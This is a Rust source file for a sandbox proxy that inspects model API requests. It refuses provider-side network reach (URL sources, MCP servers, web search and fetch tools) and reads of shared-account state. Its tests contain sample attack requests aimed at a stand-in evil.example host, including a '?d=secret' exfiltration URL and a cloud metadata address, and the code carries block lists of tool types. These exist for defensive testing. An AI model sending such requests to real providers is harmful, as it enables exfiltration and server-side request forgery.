//! What a model request asks of the provider, read without building it in memory: serde walks
//! the JSON once and only the few fields that matter are kept (a 32 MiB body of `[0,0,…]`
//! would be gigabytes as a `serde_json::Value`).
//!
//! What is refused: anything that makes the provider reach out on the sandbox's behalf, which
//! would be egress around the sandbox's own policy (URL image and document sources, MCP
//! servers, web search and fetch tools), or read what the shared provider account stores (file
//! ids, file search), and background responses (they return before anything can be metered).

use std::fmt;

use serde::de::{self, DeserializeSeed, Deserializer, IgnoredAny, MapAccess, SeqAccess, Visitor};

/// What the proxy needs to know of a request.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Inspection {
    pub stream: bool,
    /// `stream_options.include_usage` is already true.
    pub includes_usage: bool,
    /// `max_tokens`, `max_output_tokens` or `max_completion_tokens`.
    pub max_output_tokens: Option<u64>,
    /// Why the request must not go upstream, if it must not.
    pub refused: Option<String>,
}

/// Reads `body`; `Err` if it is not JSON (or nests deeper than serde_json allows).
pub fn inspect(body: &[u8]) -> Result<Inspection, String> {
    let mut top = Inspection::default();
    let mut de = serde_json::Deserializer::from_slice(body);
    TopLevel(&mut top).deserialize(&mut de).map_err(|e| e.to_string())?;
    de.end().map_err(|e| e.to_string())?;
    Ok(top)
}

/// The few bytes of a string that decisions need.
const KEPT: usize = 64;

/// What a value tells its parent.
#[derive(Debug, Default)]
enum Seen {
    #[default]
    Other,
    Str(String),
    /// An object: whether it holds an http(s) `url`.
    Object {
        remote_url: bool,
    },
}

fn remote(s: &str) -> bool {
    let s = s.trim_start().to_ascii_lowercase();
    s.starts_with("http://") || s.starts_with("https://")
}

impl Seen {
    fn remote(&self) -> bool {
        match self {
            Seen::Str(s) => remote(s),
            Seen::Object { remote_url } => *remote_url,
            Seen::Other => false,
        }
    }
}

/// Types of tools that run at the provider and reach out, or read the account's storage.
fn provider_side_tool(kind: &str) -> bool {
    kind.starts_with("web_search_2")
        || kind.starts_with("web_fetch")
        || matches!(kind, "web_search" | "web_search_preview" | "mcp" | "file_search" | "url_context")
}

struct Walk<'a> {
    refused: &'a mut Option<String>,
}

impl<'de> DeserializeSeed<'de> for Walk<'_> {
    type Value = Seen;
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Seen, D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Walk<'_> {
    type Value = Seen;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("JSON")
    }

    fn visit_str<E: de::Error>(self, v: &str) -> Result<Seen, E> {
        Ok(Seen::Str(torpor_engine::logs::cut(v, KEPT).to_owned()))
    }

    fn visit_bool<E>(self, _: bool) -> Result<Seen, E> {
        Ok(Seen::Other)
    }
    fn visit_i64<E>(self, _: i64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }
    fn visit_u64<E>(self, _: u64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }
    fn visit_f64<E>(self, _: f64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }
    fn visit_unit<E>(self) -> Result<Seen, E> {
        Ok(Seen::Other)
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Seen, A::Error> {
        while seq.next_element_seed(Walk { refused: self.refused })?.is_some() {}
        Ok(Seen::Other)
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Seen, A::Error> {
        let (mut kind, mut url, mut image_url, mut file_url, mut file_id) = (None, false, false, false, false);
        while let Some(key) = map.next_key::<std::borrow::Cow<'de, str>>()? {
            let seen = map.next_value_seed(Walk { refused: self.refused })?;
            match key.as_ref() {
                "type" => kind = if let Seen::Str(s) = seen { Some(s) } else { None },
                "url" => url = seen.remote(),
                "image_url" => image_url = seen.remote(),
                "file_url" => file_url = seen.remote(),
                "file_id" => file_id = true,
                _ => {}
            }
        }
        if self.refused.is_none() {
            let kind = kind.as_deref().unwrap_or("");
            *self.refused = if (kind == "url" && url)
                || (matches!(kind, "image_url" | "input_image") && image_url)
                || (kind == "input_file" && file_url)
            {
                Some("content the provider would fetch from a URL (send it inline, base64, instead)".into())
            } else if file_id {
                Some("a file stored in the provider account (send it inline instead)".into())
            } else if provider_side_tool(kind) {
                Some(format!("the provider-side tool {kind:?}, which reaches the network from the provider"))
            } else {
                None
            };
        }
        Ok(Seen::Object { remote_url: url })
    }
}

/// The request object itself: its own fields are read, everything in it walked.
struct TopLevel<'a>(&'a mut Inspection);

impl<'de> DeserializeSeed<'de> for TopLevel<'_> {
    type Value = ();
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_map(self)
    }
}

impl<'de> Visitor<'de> for TopLevel<'_> {
    type Value = ();

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a JSON object")
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        let top = self.0;
        while let Some(key) = map.next_key::<std::borrow::Cow<'de, str>>()? {
            match key.as_ref() {
                "stream" => top.stream = map.next_value::<Option<bool>>()?.unwrap_or(false),
                "background" if map.next_value::<Option<bool>>()?.unwrap_or(false) => {
                    top.refused.get_or_insert("background responses (they cannot be metered)".into());
                }
                "max_tokens" | "max_output_tokens" | "max_completion_tokens" => {
                    top.max_output_tokens = map.next_value::<Option<u64>>()?.or(top.max_output_tokens);
                }
                "stream_options" => {
                    top.includes_usage = map.next_value::<Option<StreamOptions>>()?.is_some_and(|o| o.include_usage);
                }
                "mcp_servers" => {
                    if map.next_value::<Option<Vec<IgnoredAny>>>()?.is_some_and(|s| !s.is_empty()) {
                        top.refused.get_or_insert("MCP servers reached from the provider".into());
                    }
                }
                "web_search_options" => {
                    if map.next_value::<Option<IgnoredAny>>()?.is_some() {
                        top.refused.get_or_insert("web search by the provider".into());
                    }
                }
                // State kept in the shared account: another sandbox's, given its id.
                "previous_response_id" | "conversation" => {
                    if map.next_value::<Option<IgnoredAny>>()?.is_some() {
                        top.refused.get_or_insert(format!(
                            "{key} (state stored in the shared provider account; send the history)"
                        ));
                    }
                }
                "prompt" => {
                    // A string is a completion's prompt; an object names a prompt stored in the account.
                    if let Seen::Object { .. } = map.next_value_seed(Walk { refused: &mut top.refused })? {
                        top.refused.get_or_insert("a prompt stored in the shared provider account".into());
                    }
                }
                _ => {
                    map.next_value_seed(Walk { refused: &mut top.refused })?;
                }
            }
        }
        Ok(())
    }
}

#[derive(serde::Deserialize)]
struct StreamOptions {
    #[serde(default)]
    include_usage: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(body: &str) -> Option<String> {
        inspect(body.as_bytes()).unwrap().refused
    }

    #[test]
    fn plain_requests_pass_and_their_fields_are_read() {
        let got =
            inspect(br#"{"model":"m","stream":true,"max_tokens":512,"messages":[{"role":"user","content":"hi"}]}"#)
                .unwrap();
        assert_eq!(
            got,
            Inspection { stream: true, includes_usage: false, max_output_tokens: Some(512), refused: None }
        );
        let got = inspect(br#"{"stream":true,"stream_options":{"include_usage":true}}"#).unwrap();
        assert!(got.includes_usage);
        // Inline images, local tools and URLs as plain data (a tool's input) are fine.
        assert_eq!(
            refused(
                r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AAAA"}}]},
                {"role":"assistant","content":[{"type":"tool_use","name":"WebFetch","input":{"url":"https://example.com"}}]}],
                "tools":[{"name":"Bash","input_schema":{"type":"object"}}]}"#
            ),
            None
        );
        assert_eq!(refused(r#"{"input":[{"type":"input_image","image_url":"data:image/png;base64,AAAA"}]}"#), None);
        assert_eq!(refused(r#"{"model":"m","prompt":"Say hi","previous_response_id":null}"#), None, "a completion");
    }

    #[test]
    fn what_makes_the_provider_reach_out_is_refused() {
        for body in [
            // Anthropic URL sources, MCP servers, server tools.
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/x.png"}}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"http://169.254.169.254/"}}]}]}"#,
            r#"{"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}],"messages":[]}"#,
            r#"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[]}"#,
            r#"{"tools":[{"type":"web_search_20250305","name":"web_search"}],"messages":[]}"#,
            // OpenAI chat and responses.
            r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?d=secret"}}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/a"}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/a.pdf"}]}]}"#,
            r#"{"tools":[{"type":"mcp","server_url":"https://evil.example"}],"input":"x"}"#,
            r#"{"tools":[{"type":"web_search_preview"}],"input":"x"}"#,
            r#"{"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}],"input":"x"}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_file","file_id":"file-abc"}]}]}"#,
            r#"{"background":true,"input":"x"}"#,
            r#"{"messages":[],"web_search_options":{}}"#,
            r#"{"previous_response_id":"resp_other","input":"x"}"#,
            r#"{"conversation":"conv_other","input":"x"}"#,
            r#"{"prompt":{"id":"pmpt_1"},"input":"x"}"#,
        ] {
            assert!(refused(body).is_some(), "let through: {body}");
        }
    }

    #[test]
    fn huge_bodies_are_walked_without_being_built() {
        let mut body = String::from(r#"{"model":"m","messages":[{"role":"user","content":"#);
        body.push('[');
        for i in 0..2_000_000 {
            if i > 0 {
                body.push(',');
            }
            body.push('0');
        }
        body.push_str("]}]}");
        assert_eq!(inspect(body.as_bytes()).unwrap().refused, None);
        assert!(inspect(b"{\"a\":").is_err());
        assert!(inspect(&vec![b'['; 10_000]).is_err(), "nesting past serde_json's limit is refused");
    }
}
